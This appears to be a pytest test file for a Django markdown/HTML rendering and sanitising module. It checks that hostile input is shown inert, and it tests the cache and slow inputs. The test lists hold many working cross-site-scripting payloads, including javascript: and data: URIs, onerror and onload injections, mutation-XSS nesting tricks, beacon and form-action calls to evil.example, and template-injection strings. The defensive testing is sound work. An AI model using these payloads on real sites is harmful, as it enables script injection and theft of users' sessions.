"""Hostile text is shown, never obeyed; honest text is shown as it was meant, whole, and once."""

import random
import re
from html import unescape
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.template import Context, Template
from django.utils.safestring import SafeString

from labeling import rendering
from labeling.rendering import MAX_CHARS, render
from labeling.rendering.caching import Cache
from labeling.rendering.sanitising import ATTRIBUTES, CHOICES, CLASSES, REL, SCHEMES, TAGS, sanitised

LINK_TARGETS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "%6Aavascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "view-source:https://evil.example",
    "//evil.example/x",
    "/account/logout/",
    "../../admin/",
    "?next=evil",
    "#id",
    "ftp://evil.example",
    "intent://evil#Intent;scheme=http;end",
    "https:evil",
    'http://evil.example/?x="onmouseover=alert(1)',
]
LINK_FORMS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "[![i]({})](http://ok.example)",
]
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>'/>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/beacon.png?who=me'>",
    "<img srcset='https://evil.example/b.png 1x'>",
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<video src=//evil.example/x onloadstart=alert(1)>",
    "<audio src=//evil.example/x autoplay>",
    "<video poster=//evil.example/x>",
    "<input type=image src=//evil.example/x>",
    "<body onload=alert(1) background=//evil.example/x>",
    "<table background=//evil.example/x><td background=//evil.example/y>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import url(//evil.example/x);body{background:url(//evil.example/y)}</style>",
    "<p style='background:url(//evil.example/x);position:fixed;inset:0'>x</p>",
    '<div style="width:expression(alert(1))">x</div>',
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=csrfmiddlewaretoken><button>Save</button></form>",
    "<button formaction=javascript:alert(1) type=submit form=f>x</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=http://ok.example ping=//evil.example target=_top rel=opener>x</a>",
    "<a href=http://ok.example onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div id=app name=location hx-get=//evil.example hx-trigger=load data-open=palette>x</div>",
    "<div class='dialog button shell' popover onbeforetoggle=alert(1)>x</div>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea><title></title><img src=x onerror=alert(1)>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml>",
    "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><maction actiontype='statusline#http://x' xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mi style='position:fixed' onclick=alert(1) id=x class=shell>x</mi><ms>y</ms></math>",
    "<math><mtext><img src=x onerror=alert(1)><a href=javascript:alert(1)>x</a></mtext></math>",
    '<math><malignmark><style><p title="</style><img src=x onerror=alert(1)>">',
    "<b><i><u><div><p><span><table><tr><td><li><ul>never closed",
    "</div></main></body></html><script>alert(1)</script>",
    '<a href="http://ok.example" <script>alert(1)</script>',
    "<img src=x\x00 onerror=alert(1)>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "{{ request.user.password }}{% include 'secret' %}{# x #}${7+7}<%= 7+7 %>#{7+7}",
]
MARKDOWN = [
    '[x](http://ok.example "onmouseover=alert(1)")',
    "[x](http://ok.example '><script>alert(1)</script>')",
    "[<img src=x onerror=alert(1)>](http://ok.example)",
    "![<script>alert(1)</script>](http://ok.example/i.png)",
    "![x](https://evil.example/beacon.png?who=me)",
    "![x][b]\n\n[b]: https://evil.example/b.png 'title'",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "`<script>alert(1)</script>`",
    '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | " onclick=alert(1) |',
    "# <svg onload=alert(1)>",
    "1. <iframe src=//evil.example>\n\n> <base href=//evil.example>",
    r"$\text{<script>alert(1)</script>}$ and $\href{javascript:alert(1)}{x}$",
    r"$\text{</math><img src=x onerror=alert(1)>}$ $\style{position:fixed}{x}$ $\class{shell}{x}$",
    r"$</math><script>alert(1)</script>$ $\unicode{x3c}$ $\operatorname{<img>}$ $\begin{<b>}x\end{<b>}$",
    '$$\n\\text{"><img src=x onerror=alert(1)>}\n$$',
    r"$\color{red;background:url(//evil.example)}{x}$ $\hspace{99999em}x$ $\tag{<script>}$",
    "<javascript:alert(1)@evil.example>",
    "<mailto:a@b.example?body=<script>>",
]
LINKS = [form.format(target) for form in LINK_FORMS for target in LINK_TARGETS]
CORPUS = [*MARKUP, *MARKDOWN, *LINKS]


class Seen(HTMLParser):
    """Every element of a page with its attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.elements.append(("a comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.elements.append(("a declaration", {}))

    def handle_pi(self, data: str) -> None:
        self.elements.append(("an instruction", {}))


def words(html: str) -> str:
    return Seen(html).words


def inner(html: str) -> str:
    return re.sub(r'^<div class="prose[^>]*>|</div>$', "", html)


def faults(html: str) -> list[str]:
    """What a page must not hold, told without the allow list's own code."""
    found = []
    for tag, attributes in Seen(html).elements:
        allowed = ATTRIBUTES.get(tag, set()) | set(CHOICES.get(tag, {})) | {"class"}
        if tag == "a":
            allowed |= {"rel", "target"}
            address = urlsplit(attributes.get("href", "http://none"))
            if address.scheme not in SCHEMES or attributes["rel"] != REL or attributes["target"] != "_blank":
                found.append(f"a link: {attributes}")
        if tag not in TAGS:
            found.append(f"the element {tag}")
        found += [f"{tag} with {name}" for name in attributes.keys() - allowed]
        found += [f"the class {name}" for name in set(attributes.get("class", "").split()) - CLASSES]
        found += [
            f"{name}={attributes[name]}"
            for name in attributes
            if re.search(r"url\(|script:", attributes[name])
        ]
    return found


def test_the_corpus_is_as_large_as_promised_and_names_nothing_twice() -> None:
    assert len(set(CORPUS)) == len(CORPUS) > 200
    assert len(MARKUP) >= 60


@pytest.mark.parametrize("payload", CORPUS)
def test_hostile_text_does_nothing_but_stand_there(payload: str) -> None:
    shown = inner(render(payload))
    assert faults(shown) == []
    assert sanitised(shown) == shown


@pytest.mark.parametrize("payload", MARKUP)
def test_raw_html_is_shown_as_it_was_written(payload: str) -> None:
    shown = words(render(payload))
    typed = unescape(payload).replace("\x00", "\ufffd")
    assert re.sub(r"[\s\\]", "", typed) == re.sub(r"[\s\\]", "", shown)


@pytest.mark.parametrize("payload", [*MARKUP, "<p>" * 2000 + "<script>alert(1)</script>"])
def test_the_second_fence_holds_alone(payload: str) -> None:
    once = sanitised(payload)
    assert faults(once) == []
    assert sanitised(once) == once


def test_the_check_sees_what_it_forbids() -> None:
    for bad in (
        "<script>",
        "<p onclick=x>",
        "<p style=x>",
        "<img>",
        "<a href=javascript:x rel target>",
        "<p class=shell>",
    ):
        assert faults(bad), bad


def test_an_image_is_named_with_its_address_and_never_fetched() -> None:
    shown = render("![A *diagram*](https://evil.example/i.png 'Title')")
    assert "<img" not in shown
    assert words(shown).strip() == "Image: A *diagram* https://evil.example/i.png"


def test_a_link_opens_elsewhere_and_tells_nobody_where_it_came_from() -> None:
    assert inner(render("[x](https://ok.example/?a=1&b=2)")).strip() == (
        '<p dir="auto"><a href="https://ok.example/?a=1&amp;b=2" target="_blank"'
        ' rel="noopener noreferrer nofollow">x</a></p>'
    )


def test_a_template_in_a_text_is_text_on_a_page_too() -> None:
    page = Template("{% load labeling %}{{ text|rendered }}").render(Context({"text": "{{ 7 }} <b>*x*</b>"}))
    assert page == '<div class="prose"><p dir="auto">{{ 7 }} &lt;b&gt;<em>x</em>&lt;/b&gt;</p>\n</div>'
    assert isinstance(render("x"), SafeString)


@pytest.mark.parametrize("seed", range(8))
def test_no_bytes_whatever_make_it_raise_or_let_anything_through(seed: int) -> None:
    chance = random.Random(seed)
    pieces = [
        *MARKUP,
        *"\n\t $`*_[]()<>|#>-+~\\&;:!{}'\"",
        "```",
        "$$",
        r"\[",
        r"\]",
        r"\frac",
        "\x00",
        "\ud800",
        "\u202e",
        "😀",
    ]
    for _ in range(60):
        noise = chance.randbytes(chance.randint(0, 80)).decode("utf-8", "surrogateescape")
        text = noise + "".join(chance.choices(pieces, k=chance.randint(0, 60)))
        shown = render(text)
        assert "prose-plain" not in shown
        assert faults(inner(shown)) == []
        shown.encode()


SLOW = {
    "brackets": "[" * 100_000,
    "images": "![" * 50_000,
    "brackets that close far away": "[" * 50_000 + "a" + "](b)" * 20_000,
    "quotations in quotations": ">" * 5_000 + "a",
    "lists in lists": "\n".join("  " * depth + "- a" for depth in range(300)),
    "emphasis in emphasis": "**" * 500 + "a" + "**" * 500,
    "a table of a hundred thousand cells": "|a|b|\n|-|-|\n" + "|x|y|\n" * 50_000,
    "a table of a thousand columns": "|a" * 1_000 + "|\n" + "|-" * 1_000 + "|\n" + "|x|\n" * 100,
    "empty items": "*\n" * 60_000,
    "headings": "# a\n" * 34_000,
    "formulas that never end": "\\[ x\n" * 20_000,
    "environments that never end": "\\begin{align}\n" * 15_000,
    "dollars": "$x " * 60_000,
    "a text longer than is formatted": "word " * (MAX_CHARS // 5 + 1),
}


@pytest.mark.parametrize("kind", SLOW)
def test_what_is_built_to_be_slow_is_shown_as_written_and_whole(kind: str) -> None:
    shown = render(SLOW[kind])
    assert shown.startswith('<div class="prose prose-plain" dir="auto">')
    assert words(shown) == SLOW[kind]


@pytest.mark.parametrize(
    "paragraph",
    [
        "The **quick** fox of `code` and $x_i^2$ [jumps](https://a.example), *again*.\n\n- one\n- two\n\n",
        "```python\ndef f(x):\n    return x + 1  # one more\n```\n\nText between.\n\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\nA sentence that says what the table shows, at some length.\n\n",
        "هذا نص عربي طويل، ثم English words، ثم 😀 مرة أخرى.\n\n",
    ],
)
def test_an_honest_text_of_200_kb_is_formatted(paragraph: str) -> None:
    text = paragraph * (200_000 // len(paragraph.encode()))
    assert len(text.encode()) > 190_000
    assert render(text).startswith('<div class="prose"><')


def test_the_same_text_is_rendered_once(monkeypatch: pytest.MonkeyPatch) -> None:
    first = render("rendered *once*")
    monkeypatch.setattr(rendering, "to_html", lambda text: pytest.fail("rendered again"))
    assert render("rendered *once*") is first


def test_a_fault_of_ours_shows_the_text_as_written(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(rendering, "to_html", lambda text: 1 / 0)
    assert (
        render("<b> that ours fails on")
        == '<div class="prose prose-plain" dir="auto">&lt;b&gt; that ours fails on</div>'
    )
    assert "could not be rendered" in caplog.text
    rendering.cache.clear()


def test_the_cache_is_bounded_in_bytes_and_forgets_what_was_used_longest_ago() -> None:
    cache = Cache(limit=10_000)
    for number in range(100):
        cache.put(b"%d" % number, SafeString("x" * 700))
        assert cache.get(b"0") is not None
        assert 0 < cache.size <= 10_000
    assert cache.get(b"1") is None
    assert cache.get(b"99") is not None
    assert 5 < len(cache) < 15


def test_a_text_too_large_for_the_cache_does_not_empty_it() -> None:
    cache = Cache(limit=10_000)
    cache.put(b"small", SafeString("x"))
    cache.put(b"large", SafeString("x" * 5_000))
    assert cache.get(b"large") is None
    assert cache.get(b"small") == "x"


def test_twice_the_same_key_counts_once_and_clearing_counts_nothing() -> None:
    cache = Cache(limit=10_000)
    cache.put(b"a", SafeString("x"))
    size = cache.size
    cache.put(b"a", SafeString("x"))
    assert cache.size == size
    cache.clear()
    assert (cache.size, len(cache)) == (0, 0)
